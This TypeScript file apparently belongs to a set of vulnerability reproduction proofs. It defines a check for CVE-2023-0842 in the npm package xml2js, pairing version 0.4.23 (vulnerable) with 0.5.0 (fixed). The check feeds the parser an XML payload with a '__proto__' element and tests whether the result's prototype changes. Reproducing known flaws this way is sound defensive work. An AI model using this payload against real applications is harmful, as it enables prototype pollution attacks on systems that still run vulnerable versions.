import { defineProof } from '../define-proof.ts';

/** Parses an element that names the prototype and looks whether the result inherits from it. */
export const xml2jsProto = defineProof({
  name: 'xml2js-proto',
  ids: ['CVE-2023-0842', 'GHSA-776f-qx25-q3cc'],
  ecosystem: 'npm',
  package: 'xml2js',
  kind: 'parser_acceptance',
  describes: 'Parses an element that names the prototype and looks whether the result inherits from it.',
  shownOn: { vulnerable: '0.4.23', fixed: '0.5.0' },
  source: `
module.exports = ({ load }) => {
  const { parseString } = load();
  const read = (text) => {
    let result;
    parseString(text, { async: false, explicitArray: false }, (error, value) => {
      result = error ? undefined : value;
    });
    return result;
  };
  const odd = read('<root><__proto__><polluted>1</polluted></__proto__></root>');
  const reproduced = odd !== undefined && Array.isArray(Object.getPrototypeOf(odd.root));
  return { reproduced, answers: read('<root><a>1</a></root>').root.a === '1' };
};
`,
});
